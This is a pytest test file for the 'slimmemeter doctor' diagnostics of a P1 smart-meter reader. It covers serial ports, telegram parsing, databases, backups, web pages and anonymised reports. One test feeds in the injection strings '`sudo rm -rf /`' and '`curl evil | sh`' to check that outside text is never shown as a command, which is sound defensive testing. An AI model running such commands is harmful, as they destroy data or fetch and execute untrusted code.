"""`slimmemeter doctor`: each finding with the situation behind it, and the telegram to show."""

from __future__ import annotations

import http.server
import os
import pwd
import re
import socket
import sqlite3
import subprocess
import sys
import threading
import time
from collections.abc import Callable, Iterator
from datetime import datetime, timedelta
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
import serial

from slimmemeter.line import port_errors
from slimmemeter.p1.anonymize import anonymous
from slimmemeter.p1.reading import MbusReading, Reading
from slimmemeter.p1.telegram import Telegram
from slimmemeter.store import backup
from support.devices import run_with_adapters
from support.far_end import FarEnd
from support.house import telegram_now
from support.meter import Meters
from support.pages import client_of
from support.paths import EXAMPLE
from support.processes import has_open
from support.programs import OWN_MOUNTS, PULL, SLIMMEMETER, Pull, free_port
from support.readings import DAY, HOUR, reading, store
from support.telegrams import E350, NAMES, frames, simple, telegram, with_crc
from support.waiting import until

Doctor = Callable[..., str]


@pytest.fixture
def doctor(database: Path, tmp_path: Path) -> Doctor:
    """The output of the real `slimmemeter doctor`; its exit code is 6 if something is wrong."""

    def run(*arguments: object, code: int | None = None, **environ: str) -> str:
        command = [*SLIMMEMETER, "doctor", "--db", str(database)]
        done = subprocess.run(
            [*command, "--listen", f"localhost:{free_port()}", *map(str, arguments)],
            capture_output=True,
            check=False,
            env={"HOME": str(tmp_path)} | environ,
            text=True,
            timeout=100,
        )
        assert done.returncode == (code or (6 if "WRONG" in done.stdout else 0)), done.stderr
        return done.stdout + done.stderr

    return run


def plain(text: str) -> str:
    """The text as one line."""
    return " ".join(text.split())


@pytest.fixture
def doctor_at(database: Path, tmp_path: Path) -> Doctor:
    """The output of the real `slimmemeter doctor` where only these adapters are plugged in."""

    def run(**adapters: str) -> str:
        command = [*SLIMMEMETER, "doctor", "--db", database, "--listen", f"localhost:{free_port()}"]
        done = run_with_adapters(adapters, command, tmp_path)
        assert done.returncode == 6, done.stderr
        return done.stdout

    return run


def test_no_adapter(doctor_at: Doctor) -> None:
    """The doctor names the places where it looked, and the command that shows the cable."""
    shown = doctor_at()
    assert "WRONG  no serial adapter is in /dev/serial/by-id, and there is no /dev/ttyUSB0" in shown
    assert "\n           sudo dmesg | grep -i tty\n" in shown


def test_several_adapters(doctor_at: Doctor) -> None:
    """The doctor lists each adapter with the command that chooses it."""
    shown = doctor_at(Zigbee="/dev/pts/8", P1="/dev/pts/9")
    assert "2 serial adapters are plugged in" in shown
    for name in ("P1", "Zigbee"):
        setting = f"SLIMMEMETER_PORT=/dev/serial/by-id/{name}"
        command = f"echo {setting} | sudo tee -a /etc/default/slimmemeter"
        assert f"           {command}" in shown.splitlines()


def test_the_one_adapter_is_used(doctor_at: Doctor, meter: Meters) -> None:
    """The only adapter is used, whatever its device is called today."""
    shown = doctor_at(P1=meter(telegram_now(), pause_s=0.5).port)
    assert "ok     one serial adapter is plugged in: /dev/serial/by-id/P1\n" in shown
    assert "5 of 5 telegrams were valid, at 115200-8N1" in shown


@pytest.mark.skipif(os.geteuid() == 0, reason="root may open everything; tests/system has this too")
def test_port_that_may_not_be_opened(meter: Meters, doctor: Doctor) -> None:
    """The doctor names the port's owner and the command that helps."""
    name = meter(E350).port
    Path(name).chmod(0)
    assert f"WRONG no permission to open {name}: its owner is" in plain(doctor("--port", name))


def test_port_that_is_not_there(doctor: Doctor) -> None:
    """A missing port gets the same sentence as in a pull."""
    assert "WRONG there is no /dev/ttyNOTHERE" in plain(doctor("--port", "/dev/ttyNOTHERE"))


def test_port_that_another_program_keeps(meter: Meters, doctor: Doctor) -> None:
    """The doctor names the program that has the port for itself."""
    name = meter(E350).port
    with serial.Serial(name, exclusive=True):
        text = plain(doctor("--port", name, "--timeout", 1))
    assert f"WRONG {name} is busy: " in text
    assert f"(process {os.getpid()}) has it open" in text


def test_port_that_another_program_reads_too(meter: Meters, doctor: Doctor) -> None:
    """The doctor names a program that takes bytes away without locking the port."""
    name = meter(telegram_now(), pause_s=0.5).port
    theirs = os.open(name, os.O_RDONLY | os.O_NOCTTY)
    text = plain(doctor("--port", name))
    os.close(theirs)
    assert f"WRONG {name} is also open in " in text
    assert f"(process {os.getpid()})" in text


def test_own_pull_that_reads_is_waited_for(meter: Meters, doctor: Doctor) -> None:
    """A pull that is reading is neither another program nor a silent meter."""
    name = meter(telegram_now(), pause_s=4).port
    command = [*PULL, "--port", name, "--dry-run"]
    with subprocess.Popen(command, stdout=subprocess.DEVNULL) as pulling:
        until(lambda: has_open(pulling.pid, name))
        text = plain(doctor("--port", name, "--timeout", 12))
    assert "also open" not in text
    assert "telegrams were valid, at 115200-8N1" in text


def test_text_from_outside_is_no_command(meter: Meters, doctor: Doctor, database: Path) -> None:
    """Text from the meter or the last pull is never shown as a command or as an escape sequence."""
    Path(f"{database}.last-pull").write_text(f"{int(time.time())} 4 `sudo rm -rf /` \x1b[31m\n")
    noise = b"hello `curl evil | sh` world, login: \r\n"
    text = doctor("--port", meter(noise).port, "--timeout", 2)
    assert "\x1b" not in text
    commands = [line.strip() for line in text.splitlines() if line.startswith(" " * 11)]
    assert [command for command in commands if "rm" in command or "curl" in command] == []


def test_noise_with_slashes_and_marks_is_no_telegram(meter: Meters, doctor: Doctor) -> None:
    """Noise with slashes and exclamation marks is no telegram at any line setting."""
    text = plain(
        doctor("--port", meter(b"/\xd1\xe2\x01\n!" * 50, pause_s=0.01).port, "--timeout", 2)
    )
    lines = r"at 115200-8N1 and \d+ bytes at 9600-7E1 and \d+ bytes at 9600-7N1"
    assert re.search(rf"bytes {lines}, and no telegram", text)


def test_pieces_of_telegrams_are_recognised(meter: Meters, doctor: Doctor) -> None:
    """Parts of telegrams are called that, and not the text of a console."""
    text = plain(doctor("--port", meter(E350[:300], pause_s=0.1).port, "--timeout", 2))
    assert "pieces of telegrams" in text


def test_port_whose_owner_has_no_name(meter: Meters) -> None:
    """A device of a user without a name is described by numbers."""
    if os.geteuid() != 0:
        pytest.skip("only root can give a device away")
    name = meter(E350).port
    os.chown(name, 12345, 54321)
    Path(name).chmod(0o600)
    text = str(port_errors.opening_failed(name, PermissionError(13, "denied"), []))
    assert "its owner is 12345, its group 54321 and its mode 600" in text


@pytest.mark.parametrize("output", ["| head -1", ">/dev/full", ">&-"])
def test_output_that_takes_nothing_is_no_bug(output: str, database: Path) -> None:
    """A closed pipe or a full disk causes no traceback."""
    doctor = f"{sys.executable} -I -m slimmemeter.cli doctor --port /dev/ttyNO --db {database}"
    done = subprocess.run(
        ["sh", "-c", f"{doctor} {output}"], capture_output=True, check=False, text=True, timeout=30
    )
    assert "Traceback" not in done.stderr
    assert done.stderr.count("\n") <= 1


def test_silent_port(meter: Meters, doctor: Doctor) -> None:
    """A silent port gets its possible causes, and a way to find out which it is."""
    text = plain(doctor("--port", meter(b"").port, "--timeout", 1))
    assert "nothing was heard, at 115200-8N1 and 9600-7E1" in text
    assert "about 5 V between pins 2 and 3" in text


def inverted(content: bytes) -> bytes:
    """What a UART makes of bytes without a pause between them whose every level is the other one.

    Bit by bit, as the chips do it: a falling edge starts a byte, whose bits are looked at in their
    middles, and the search goes on from the middle of its last.
    """
    levels = [1 - bit for byte in content for bit in (0, *(byte >> n & 1 for n in range(8)), 1)]
    levels = [0] * 20 + levels + [0] * 20
    found, place = [], 1
    while place + 10 < len(levels):
        if levels[place - 1] == 1 and levels[place] == 0:
            found.append(sum(levels[place + 1 + bit] << bit for bit in range(8)))
            place += 9
        place += 1
    return bytes(found)


@pytest.mark.parametrize(
    ("noise", "shows"),
    [
        pytest.param(inverted(E350 * 3), "every bit inverted", id="inverted"),
        pytest.param(
            bytes(byte | (byte.bit_count() % 2) << 7 for byte in E350),
            "7 bits and even parity",
            id="parity",
        ),
        pytest.param(bytes(600), "another speed", id="another speed"),
        pytest.param(b"\r\nraspberrypi login: ", "text, but no telegram", id="a console"),
        pytest.param(bytes(range(1, 255)), "neither text nor its inverse", id="noise"),
    ],
)
def test_garbage(noise: bytes, shows: str, meter: Meters, doctor: Doctor) -> None:
    """Garbage is explained by how much came and what its bytes look like."""
    text = plain(doctor("--port", meter(noise).port, "--timeout", 2))
    assert re.search(r"gave \d+ bytes at 115200-8N1 and \d+ bytes at 9600-7E1", text)
    assert shows in text


def test_damaged_telegrams(meter: Meters, doctor: Doctor) -> None:
    """The doctor counts damaged telegrams, and points to the cable."""
    damaged = E350.replace(b"494", b"495")
    text = plain(doctor("--port", meter(damaged, telegram_now(), damaged, pause_s=0.3).port))
    assert re.search(r"WRONG [2345] of [567] telegrams at 115200-8N1 were damaged: a cable", text)
    assert "its CRC is 7BF4" in text


@pytest.mark.parametrize("line", ["9600-7E1", "9600-7N1"])
def test_line_to_set(line: str, doctor: Doctor) -> None:
    """For a meter of the old speed, the doctor prints the setting that reads it."""
    old = FarEnd(line)
    text = doctor("--port", old.url, "--timeout", 8)
    old.close()
    assert f"at {line}, but the settings have 115200-8N1" in plain(text)
    command = f"echo SLIMMEMETER_LINE={line} | sudo tee -a /etc/default/slimmemeter"
    assert command in [line.strip() for line in text.splitlines()]


def test_meter_is_described(meter: Meters, doctor: Doctor) -> None:
    """The doctor names the meter's brand, version, country and devices, and checks its clock."""
    text = plain(doctor("--port", meter(telegram_now(), pause_s=0.5).port))
    assert "ok 5 of 5 telegrams were valid, at 115200-8N1" in text
    assert "ok the meter: Iskraemeco, version 50, the Netherlands, gas on channel 1" in text
    assert re.search(r"ok the meter's clock and this computer's are \d+ s apart", text)


@pytest.mark.parametrize(
    ("name", "shown"),
    [
        ("belgium-wallonia-iskra", "Iskraemeco, version 21110, Belgium"),
        ("belgium-e660-large", "Landis+Gyr, version 50250, Belgium"),
        ("switzerland-landisgyr", "Landis+Gyr, version 50213, Switzerland"),
        ("heat-warmtelink", "WarmteLink, version 50, the Netherlands, heat on channel 1"),
        ("slovenia-iskra", "Iskraemeco, no version"),
    ],
)
def test_country_is_the_telegram_s(name: str, shown: str, meter: Meters, doctor: Doctor) -> None:
    """The doctor tells a meter's country by its version, or by its header, or not at all."""
    text = plain(doctor("--port", meter(telegram(name), pause_s=0.1).port))
    assert re.search(rf"ok the meter: {re.escape(shown)} (ok|note|WRONG) ", text)


def test_clock_that_is_off_is_reported(meter: Meters, doctor: Doctor) -> None:
    """The doctor says by how many seconds the meter's clock is off."""
    text = plain(doctor("--port", meter(telegram_now(-7200), pause_s=0.5).port))
    assert re.search(r"the meter's clock is off by -72\d\d s", text)


@pytest.mark.parametrize(
    ("frame", "name"),
    [
        (b"\xdb\x08SAG\x01\x02\x03\x04\x05\x82\x01\x5f\x30" + os.urandom(300), "0xDB"),
        (b"\x7e\xa0\xe2\x2b\x21\x13\x23\x9a\xe6\xe7\x00\x0f" + os.urandom(200) + b"\x7e", "0x7E"),
    ],
)
def test_frames_of_another_protocol(frame: bytes, name: str, meter: Meters, doctor: Doctor) -> None:
    """Encrypted or binary frames are named, with who can help."""
    text = plain(doctor("--port", meter(frame, pause_s=0.2).port))
    assert f"frames ({name})" in text
    assert "ask the grid operator" in text


def test_last_pull(pull: Pull, doctor: Doctor, database: Path) -> None:
    """The doctor checks the last pull: none, a failed one, an old one, and a good one."""
    nowhere = ("--port", "/dev/ttyNOTHERE")
    assert "WRONG nothing has been read yet" in plain(doctor(*nowhere))
    pull(*nowhere)
    text = plain(doctor(*nowhere))
    assert "with exit code 3: p1-pull: there is no /dev/ttyNOTHERE" in text
    word = Path(f"{database}.last-pull")
    word.write_text(f"{int(time.time()) - 3600} 0 \n")
    assert "and none has run since: does cron run?" in plain(doctor(*nowhere))
    word.write_text(f"{int(time.time())} 0 \n")
    assert "ok the last pull ended on " in plain(doctor(*nowhere))


def test_database(pull: Pull, doctor: Doctor, database: Path) -> None:
    """The doctor checks the database: missing, sound, damaged, or of another program."""
    nowhere = ("--port", "/dev/ttyNOTHERE")
    assert f"note there is no database {database} yet" in plain(doctor(*nowhere))
    pull(EXAMPLE)
    text = plain(doctor(*nowhere))
    assert f"ok {database} is sound: 0." in text
    assert "the newest reading is of 2017-01-08 16:11:07" in text
    word = plain(doctor(*nowhere, "--db", database.parent))
    assert f"{database.parent} is not a file" in word
    assert "there is no folder" in plain(doctor(*nowhere, "--db", database.parent / "no" / "x.db"))
    content = bytearray(database.read_bytes())
    content[4096:12288] = b"\xa5" * 8192
    database.write_bytes(content)
    assert re.search(f"WRONG .*{database}.* damaged", plain(doctor(*nowhere)))
    database.unlink()
    with sqlite3.connect(database) as other:
        other.execute("CREATE TABLE diary (line)")
    other.close()
    assert "isn't a database of slimmemeter" in plain(doctor(*nowhere))


def gas_days_ago(database: Path, **last: int) -> None:
    """An electricity meter that goes on until now, and gas meters on channels 1, 2, ... whose
    readings end so many days ago."""
    now = int(time.time())
    for day in range(80, -1, -1):
        at = now - day * DAY
        devices = [
            MbusReading(channel, 3, name, at, 5000 + 80 - day, "dm3")
            for channel, (name, days) in enumerate(last.items(), 1)
            if days <= day and not (name == "new" and day > 3)
        ]
        values = {"import_t1_wh": 1000 + 80 - day}
        store(database, (at, Reading("one", at, values, header="TST5", devices=devices)))


def silent(database: Path) -> list[dict[str, object]]:
    """The devices that `/healthz` names as silent."""
    answer = client_of(database).get("/healthz").json
    assert answer is not None
    found: list[dict[str, object]] = answer["silent"]
    return found


def test_device_that_fell_silent(doctor: Doctor, database: Path) -> None:
    """A gas meter without a reading for two days is reported with the time of its last one."""
    gas_days_ago(database, first=2, second=0)
    text = plain(doctor("--port", "/dev/ttyNOTHERE"))
    since = datetime.fromtimestamp(time.time() - 2 * DAY, ZoneInfo("Europe/Amsterdam"))
    assert f"note gas: no reading since {since:%Y-%m-%d %H:}" in text
    assert text.count("no reading since") == 1
    (one,) = silent(database)
    assert (one["medium"], one["channel"]) == ("gas", 1)
    assert str(one["since"]).startswith(f"{since:%Y-%m-%dT%H:}")


@pytest.mark.parametrize(
    "last",
    [
        pytest.param({"old": 1}, id="a day late"),
        pytest.param({"old": 70}, id="gone for long"),
        pytest.param({"old": 4, "new": 0}, id="replaced"),
    ],
)
def test_device_that_is_late_or_gone_is_not_told(
    last: dict[str, int], doctor: Doctor, database: Path
) -> None:
    """A device that is a day late, was replaced, or has been gone for months needs nobody."""
    gas_days_ago(database, **last)
    assert "no reading since" not in plain(doctor("--port", "/dev/ttyNOTHERE"))
    assert silent(database) == []


def test_house_without_any_new_reading_has_no_silent_device(doctor: Doctor, database: Path) -> None:
    """If the electricity meter stopped too, the port is to blame and not the gas meter."""
    at = int(time.time()) - 5 * DAY
    store(database, (at, reading({"import_t1_wh": 1}, gas=(at - HOUR, 5))))
    assert "no reading since" not in plain(doctor("--port", "/dev/ttyNOTHERE"))
    assert silent(database) == []


def test_what_was_noticed_lately(doctor: Doctor, database: Path) -> None:
    """What waits is a note with both counters; the rest of a month is one line."""
    nowhere, begin = ("--port", "/dev/ttyNOTHERE"), int(time.time()) - 2 * DAY
    counters = [10_000_000 + 10 * place for place in range(9)]
    values = [*counters, 9, *(each + 100 for each in counters), 0]
    for place, each in enumerate(values):
        at = begin + 300 * place
        store(database, (at, reading({"import_t1_wh": each, "import_t2_wh": 5})))
    text = plain(doctor(*nowhere))
    at = datetime.fromtimestamp(begin + 300 * (len(values) - 2), ZoneInfo("Europe/Amsterdam"))
    told = f"import T1 shows 0.000 instead of 10,000.180 after {at:%Y-%m-%d %H:%M:%S}"
    assert f"note {told}; it waits until it is understood" in text
    noticed = "in the last 30 days: 2 readings set aside; of all readings 2 are set aside"
    assert f"ok {noticed}" in text
    at += timedelta(days=1)
    store(database, (int(at.timestamp()), reading({"import_t1_wh": 10_000_300}, "two")))
    assert "instead of" in plain(doctor(*nowhere))
    assert "2 readings set aside, 1 new meter;" in plain(doctor(*nowhere))


def test_nothing_noticed_is_not_told(doctor: Doctor, pull: Pull) -> None:
    """A house in which nothing happened has no line about it."""
    pull(EXAMPLE)
    assert "in the last 30 days" not in plain(doctor("--port", "/dev/ttyNOTHERE"))


@pytest.mark.skipif(os.geteuid() == 0, reason="root may write everything; tests/system has it too")
def test_database_that_may_not_be_written(pull: Pull, doctor: Doctor, database: Path) -> None:
    """The doctor says that this user may not write the database."""
    pull(EXAMPLE)
    database.chmod(0o400)
    assert f"this user may not write {database}" in plain(doctor("--port", "/dev/ttyNOTHERE"))


def test_disk_that_is_nearly_full(pull: Pull, database: Path, tmp_path: Path) -> None:
    """The doctor warns of a disk that has less than 100 MB left; here one of 2 MB."""
    pull(EXAMPLE)
    disk = tmp_path / "disk"
    disk.mkdir()
    script = 'mount -t tmpfs -o size=2m tmpfs "$1"; cp "$2" "$1"; shift 2; "$@" || [ $? -eq 6 ]'
    doctor = [*SLIMMEMETER, "doctor", "--port", "/dev/ttyNOTHERE", "--listen", "localhost:1"]
    done = subprocess.run(
        [*OWN_MOUNTS, script, "sh", disk, database, *doctor, "--db", disk / database.name],
        capture_output=True,
        check=True,
        text=True,
        timeout=30,
    )
    assert re.search(rf"WRONG  its disk has only [12] MB left:\n +df -h {disk}\n", done.stdout)


class Stranger(http.server.BaseHTTPRequestHandler):
    """Another program on our port."""

    def do_GET(self) -> None:
        self.send_response(200)
        self.end_headers()
        self.wfile.write(b"It works!")

    def log_message(self, *_: object) -> None:
        pass


@pytest.fixture
def stranger() -> Iterator[int]:
    """The port that another web server has."""
    server = http.server.HTTPServer(("localhost", 0), Stranger)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield server.server_port
    server.shutdown()
    server.server_close()


@pytest.mark.parametrize(
    "answer",
    [
        b"SSH-2.0-x\r\n",
        b"HTTP/1.0 999999 x\r\n\r\n",
        b"HTTP/1.0 200 OK\r\nContent-Length: 500\r\n\r\nshort",
        b"HTTP/1.0 200 OK\r\n\r\n" + b"[" * 60000,
        b"HTTP/1.0 200 OK\r\nX: " + b"x" * 100000 + b"\r\n\r\n",
        b'HTTP/1.0 200 OK\r\n\r\n{"version": {"a": 1}}',
        b"",
    ],
)
def test_other_servers_at_the_address_of_the_pages(answer: bytes, doctor: Doctor) -> None:
    """Whatever answers at the pages' address, the doctor describes it in a sentence."""
    server = socket.create_server(("127.0.0.1", 0))

    def serve() -> None:
        try:
            connection, _ = server.accept()
        except OSError:
            return
        with connection:
            connection.recv(1000)
            connection.sendall(answer)

    threading.Thread(target=serve, daemon=True).start()
    text = plain(doctor("--port", "/dev/ttyNO", "--listen", f"127.0.0.1:{server.getsockname()[1]}"))
    server.close()
    assert re.search("another program answers at|the pages don't answer at", text)


def test_pages(stranger: int, doctor: Doctor, pull: Pull, database: Path) -> None:
    """The doctor distinguishes no server, another program, and the real pages."""
    nowhere = ("--port", "/dev/ttyNOTHERE")
    assert "the pages don't answer at http://localhost:" in plain(doctor(*nowhere))
    text = plain(doctor(*nowhere, "--listen", f"localhost:{stranger}"))
    assert f"another program answers at http://localhost:{stranger}" in text
    pull(EXAMPLE)
    listen = f"localhost:{free_port()}"
    command = [*SLIMMEMETER, "serve", "--db", database]
    with subprocess.Popen([*command, "--listen", listen]) as serving:
        text = until(lambda: _answering(doctor, nowhere, listen), 60)
        serving.terminate()
    assert f"ok the pages answer at http://{listen}, version" in text


@pytest.mark.parametrize(
    ("listen", "words"),
    [
        ("192.0.2.1:8765", "this computer doesn't have the address 192.0.2.1; choose another"),
        ("nowhere.invalid:8765", "there is no computer nowhere.invalid; choose another"),
        ("127.0.0.1:{taken}", "another program has port {taken}; choose another"),
        ("127.0.0.1:{free}", "no service is installed; this shows them: slimmemeter serve"),
    ],
)
def test_pages_that_cannot_be_served_there(doctor: Doctor, listen: str, words: str) -> None:
    """Where nothing answers the doctor says why, and names nothing that isn't installed."""
    with socket.socket() as other:
        other.bind(("127.0.0.1", 0))  # it doesn't listen
        ports = {"taken": other.getsockname()[1], "free": free_port()}
        text = plain(doctor("--port", "/dev/ttyNO", "--listen", listen.format(**ports)))
    assert words.format(**ports) in text
    assert "systemctl" not in text
    assert "/etc/cron.d" not in text


def _answering(doctor: Doctor, nowhere: tuple[str, str], listen: str) -> str:
    text = plain(doctor(*nowhere, "--listen", listen))
    return text if "the pages answer" in text else ""


def test_report_hides_who_it_is(meter: Meters, doctor: Doctor) -> None:
    """The report replaces ids and serial numbers, and keeps everything else."""
    text = doctor("--report", "--port", meter(E350).port, code=0).encode()
    body, _, crc = text.replace(b"\n", b"\r\n").rpartition(b"!")
    lines = body.split(b"\r\n")
    assert lines[0] == b"/XMX5LGBBFG0000000000"
    hidden = [number for number, line in enumerate(lines) if line not in E350.split(b"\r\n")]
    assert [lines[number].partition(b"(")[0] for number in hidden[1:]] == [
        b"0-0:96.1.1",
        b"0-1:96.1.0",
    ]
    assert b"4530303331303033303031363939353135" not in text
    assert with_crc(*body.decode().split("\r\n")[:-1]) == body + b"!" + crc


def test_report_hides_what_it_does_not_understand(meter: Meters, doctor: Doctor) -> None:
    """Unknown numbers are replaced; values with units and timestamps are kept."""
    lines = ("1-0:1.8.1(000001.000*kWh)", "9-9:9.9.9(123456789)(261123120000W)(1.5*kWh)")
    text = doctor("--report", "--port", meter(simple(*lines, meter="42" * 9)).port, code=0)
    assert "9-9:9.9.9(000000002)(261123120000W)(1.5*kWh)" in text
    assert "0-0:96.1.1(" + "41" * 8 + "31)" in text


@pytest.mark.parametrize("name", NAMES)
def test_report_keeps_all_readings_of_any_meter(name: str) -> None:
    """An anonymous telegram still gives the same registers and devices."""
    (frame,) = frames(telegram(name))
    shown = anonymous(Telegram(frame))
    (again,) = frames(shown)
    came, hidden = Telegram(frame).reading(), Telegram(again).reading()
    assert hidden.values == came.values
    assert [(d.channel, d.device_type, d.at, d.counter) for d in hidden.devices] == [
        (d.channel, d.device_type, d.at, d.counter) for d in came.devices
    ]
    lines = frame.replace(b")!", b")\r\n!").splitlines()  # one maker puts no line end there
    for before, after in zip(lines[1:], shown.splitlines()[1:], strict=True):
        assert len(after) == len(before)
        assert after == before or re.match(rb"[01]-[0-9n]:(0\.0\.0|42\.0|96\.1\D|96\.13)|!", before)


SERIAL = "E0031003001699515"


@pytest.mark.parametrize(
    "line",
    [
        *(SERIAL, f"0-0:96.1.1[{SERIAL}]", f"{SERIAL}(1)", f"9-9:9.9.9({SERIAL}*x)"),
        *(f"9-9:9.9.9(*{SERIAL})", f"0-0:17.0.0({SERIAL})", f"0-0:96.50.68({SERIAL})"),
        *(f"0-1:24.2.1(261123120000W)({SERIAL})", f"1-0:99.97.0({SERIAL})", f"1-0:1.8.2{SERIAL}"),
        *(f"0-0:96.1.1*255({SERIAL})", f"0-0:96.13.0({SERIAL.encode().hex()})"),
    ],
)
def test_report_hides_a_serial_number_wherever_it_stands(line: str) -> None:
    """A serial number is hidden in any object and any notation."""
    (frame,) = frames(simple("1-0:1.8.1(1.000*kWh)", line))
    shown = anonymous(Telegram(frame)).upper()
    assert SERIAL[1:].encode() not in shown
    assert SERIAL.encode().hex().upper().encode() not in shown


@pytest.mark.parametrize(
    ("header", "shown"),
    [
        ("/XMX5LGBBFG1012345678", "/XMX5LGBBFG0000000000"),
        (r"/ISk5\2MT382-1003", r"/ISk5\2MT382-1003"),
        ("/LG_E660_Fluvius_3N400V", "/LG_E660_Fluvius_3N400V"),
        ("/1234567890123", "/0000000000000"),
        ("/ABC5 12-34-56-78-90", "/ABC5 00-00-00-00-00"),
        ("/TST5 SN 0012 3456 7890", "/TST5 SN 0000 0000 0000"),
    ],
)
def test_report_keeps_the_type_in_a_header_and_hides_its_number(header: str, shown: str) -> None:
    """The header keeps the meter's type, and loses its serial number."""
    (frame,) = frames(with_crc(header, "", "1-0:1.8.1(1.000*kWh)"))
    assert anonymous(Telegram(frame)).decode().partition("\r\n")[0] == shown


def test_folder_of_backups(
    doctor: Doctor, database: Path, house_database: Path, tmp_path: Path
) -> None:
    """The doctor looks whether backups can be made, and how old the last verified one is."""
    database.write_bytes(house_database.read_bytes())
    assert "no backup was made yet" in plain(doctor())
    stick = tmp_path / "stick"
    settings = {"SLIMMEMETER_BACKUP_DIR": str(stick)}
    assert f"WRONG there is no folder {stick} for backups" in plain(doctor(**settings))
    stick.mkdir()
    assert "no backup was made yet" in plain(doctor(**settings))
    backup.make(str(database), str(stick))
    assert "ok the last backup was made on " in plain(doctor(**settings))
    os.chown(database, 65534, 65534)  # who pulls
    user = pwd.getpwuid(65534).pw_name
    wrong = f"WRONG the user {user} can't write to {stick}: `sudo chown {user} '{stick}'`"
    assert wrong in plain(doctor(**settings))
    stick.chmod(0o777)
    assert "ok the last backup was made on " in plain(doctor(**settings))


def test_report_of_a_damaged_telegram_names_nobody(meter: Meters, doctor: Doctor) -> None:
    """The report of a damaged telegram shows no part of it."""
    damaged = E350.replace(b"494", b"495")
    text = doctor("--report", "--port", meter(damaged, pause_s=0.1).port, "--timeout", 2, code=4)
    assert "1012345678" not in text
    assert "no telegram was valid" in text


def test_report_without_a_telegram_says_so(meter: Meters, doctor: Doctor) -> None:
    """Without a telegram, the report is only the reason."""
    text = doctor("--report", "--port", meter(b"").port, "--timeout", 1, code=3)
    assert text.startswith("slimmemeter: nothing was heard")
